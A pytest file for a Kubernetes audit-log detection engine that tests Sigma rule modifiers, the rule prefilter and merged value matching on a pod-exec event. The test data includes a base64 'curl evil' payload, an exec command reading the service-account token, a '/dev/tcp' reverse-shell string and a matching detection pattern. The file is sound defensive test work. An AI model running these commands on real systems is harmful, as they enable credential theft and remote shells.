"""Every modifier and field spelling, on the brief's exec event changed one way at a time."""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

import pytest

from kubetrail.detect import Engine
from tests.detect.conftest import LISTS, RULES, brief_event, run

Change = Callable[[dict[str, Any]], None]


def nothing(_: dict[str, Any]) -> None:
    pass


def setter(path: str, value: Any) -> Change:
    def change(event: dict[str, Any]) -> None:
        *parents, last = path.split("/")
        node = event
        for key in parents:
            node = node.setdefault(key, {})
        node[last] = value

    return change


PAYLOAD = base64.b64encode(b"curl evil").decode()
OFFSET_PAYLOAD = base64.b64encode(b"xx curl evil.sh").decode()
PRIVILEGED = {"spec": {"containers": [{"name": "a"}, {"securityContext": {"privileged": True}}]}}
UNPRIVILEGED = {"spec": {"containers": [{"securityContext": {"privileged": False}}]}}

CASES = [
    # (rule title, change to the exec event, fires?)
    ("m-plain", nothing, True),  # verb CREATE vs create: case-insensitive
    ("m-cased", nothing, False),  # `cased`: Create != create
    ("m-cased", setter("verb", "Create"), True),
    ("m-contains", nothing, True),
    ("m-contains", setter("requestURI", "/api/v1/pods"), False),
    ("m-startswith", nothing, True),
    ("m-startswith", setter("userAgent", "curl/8"), False),
    ("m-endswith", nothing, True),
    ("m-endswith", setter("user/username", "user@mail.org"), False),
    ("m-wildcard", nothing, True),
    ("m-wildcard", setter("objectRef/name", "test-1-zp588r"), False),
    ("m-all", nothing, True),
    ("m-all", setter("requestURI", "/exec?command=sh&tty=false"), False),
    ("m-re", nothing, True),
    ("m-re", setter("userAgent", "KUBECTL/v1.24.2"), False),  # re is case-sensitive
    ("m-re-i", setter("userAgent", "KUBECTL/v1.24.2"), True),
    ("m-cidr", nothing, True),
    ("m-cidr", setter("sourceIPs", ["10.0.0.1"]), False),
    ("m-cidr-list", setter("sourceIPs", ["10.0.0.1", "203.0.113.9"]), True),  # any element
    ("m-cidr-list", setter("sourceIPs", ["2001:db8::1"]), True),
    ("m-cidr-list", setter("sourceIPs", ["198.18.0.7"]), True),  # a bare address entry
    ("m-cidr-list", nothing, False),
    ("m-exists", nothing, False),
    ("m-exists", setter("impersonatedUser", {"username": "bob"}), True),
    ("m-not-exists", nothing, True),
    ("m-not-exists", setter("impersonatedUser", {"username": "bob"}), False),
    ("m-null", nothing, True),
    ("m-null", setter("objectRef/apiGroup", "apps"), False),
    ("m-gte", nothing, False),
    ("m-gte", setter("responseStatus/code", 403), True),
    ("m-lt", nothing, True),  # 101
    ("m-number", nothing, True),
    ("m-number", setter("responseStatus/code", 200), False),
    ("m-base64", setter("requestObject", {"data": {"payload": PAYLOAD}}), True),
    ("m-base64", setter("requestObject", {"data": {"payload": "curl evil"}}), False),
    ("m-base64offset", setter("requestObject", {"data": {"payload": OFFSET_PAYLOAD}}), True),
    ("m-list-path", setter("requestObject", PRIVILEGED), True),
    ("m-list-path", setter("requestObject", UNPRIVILEGED), False),
    ("m-annotation", setter("verb", "get"), False),
    ("m-ecs", nothing, True),  # event.action, kubernetes.subresource, source.ip
    ("m-ecs", setter("sourceIPs", ["192.168.0.2"]), False),
    ("m-exec-command", nothing, False),
    (
        "m-exec-command",
        setter(
            "requestURI",
            "/api/v1/namespaces/a/pods/b/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Ftoken",
        ),
        True,
    ),
    ("m-keyword", nothing, True),  # in the annotation text
    ("m-keyword", setter("annotations", {}), False),
    ("m-expand-glob", setter("user/username", "system:node:worker-2"), True),
    ("m-expand-glob", nothing, False),
    ("m-list-any-group", setter("user/groups", ["a", "system:masters"]), True),
    ("m-list-any-group", nothing, False),
    (
        "m-windash",
        setter("requestURI", "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=id"),
        True,
    ),
    ("m-windash", nothing, False),
    ("m-subresource", nothing, True),
    ("m-subresource", setter("objectRef/subresource", "attach"), False),
    ("m-no-subresource", nothing, False),
    ("m-no-subresource", setter("objectRef/subresource", None), True),
]


@pytest.fixture(scope="module")
def engine_factory() -> Callable[[], Engine]:
    from kubetrail.detect import load

    ruleset = load([RULES / "modifiers.yml"], [LISTS], builtin=False)
    assert not ruleset.errors, ruleset.errors
    return lambda: Engine(ruleset)


@pytest.mark.parametrize(("title", "change", "fires"), CASES)
def test_rule_fires_on_changed_event(
    engine_factory: Callable[[], Engine], title: str, change: Change, fires: bool
) -> None:
    event = brief_event("exec_into_pod")
    change(event)
    fired = {m.rule.title for m in run(engine_factory(), [event])}
    assert (title in fired) is fires, sorted(fired)


def test_annotation_key_with_dots_is_matched_whole(engine_factory: Callable[[], Engine]) -> None:
    event = brief_event("exec_into_pod")
    event["annotations"]["authorization.k8s.io/decision"] = "forbid"
    assert "m-annotation" in {m.rule.title for m in run(engine_factory(), [event])}


def test_prefilter_only_offers_rules_that_can_match(engine_factory: Callable[[], Engine]) -> None:
    engine = engine_factory()
    create_pods = {r.info.title for r in engine.candidates("create", "pods", "exec")}
    update_leases = {r.info.title for r in engine.candidates("update", "leases")}
    assert "m-plain" in create_pods and "m-plain" not in update_leases
    assert "m-ecs" in create_pods and "m-ecs" not in update_leases
    assert "m-cidr" in update_leases  # no verb or resource in its condition: always a candidate


def test_prefilter_keys_on_subresource(engine_factory: Callable[[], Engine]) -> None:
    engine = engine_factory()
    assert "m-subresource" in {r.info.title for r in engine.candidates("create", "pods", "exec")}
    assert "m-subresource" not in {r.info.title for r in engine.candidates("get", "pods")}
    assert "m-no-subresource" in {r.info.title for r in engine.candidates("create", "pods")}
    assert "m-no-subresource" not in {
        r.info.title for r in engine.candidates("create", "pods", "exec")
    }


# Alternatives of every shape the matcher merges (and some it does not), against values of
# every JSON type: the merged test must answer as the alternatives tried one by one.
# 403/"403"/403.0 and True/"true"/1 hash alike or compare alike: the memo must not mix them.
ALTERNATIVES: list[Any] = [
    "Exec",
    "system:*",
    "*.sh",
    "*/dev/tcp*",
    "a?c",
    403,
    2.5,
    True,
    "10.0.0.0/8",
]
EVENT_VALUES: list[Any] = [
    "exec",
    "EXEC",
    "execs",
    "System:Admin",
    "x/run.SH",
    "bash -i >& /DEV/TCP/1.2.3.4/9",
    "abc",
    "ABC",
    "403",
    403,
    403.0,
    1,
    "1",
    "2.5",
    2.5,
    True,
    "true",
    False,
    None,
    "",
    {"a": 1},
    "10.1.2.3",
    "192.168.0.1",
]


@pytest.mark.parametrize("count", range(1, len(ALTERNATIVES) + 1))
def test_merged_alternatives_answer_like_each_alone(count: int) -> None:
    from sigma.types import SigmaBool, SigmaCIDRExpression, SigmaNumber, SigmaString, SigmaType

    from kubetrail.detect.lists import NamedLists
    from kubetrail.detect.matcher import value_test, value_tests

    def sigma(value: Any) -> SigmaType:
        if isinstance(value, bool):
            return SigmaBool(value)
        if isinstance(value, str) and value.endswith("/8"):
            return SigmaCIDRExpression(value)
        return SigmaNumber(value) if isinstance(value, int | float) else SigmaString(value)

    alternatives = [sigma(v) for v in ALTERNATIVES[:count]]
    merged = value_tests(alternatives, NamedLists())
    alone = [value_test(a, NamedLists()) for a in alternatives]
    for value in EVENT_VALUES * 2:  # twice: the second answer comes from the memo
        assert merged(value) is any(t(value) for t in alone), value
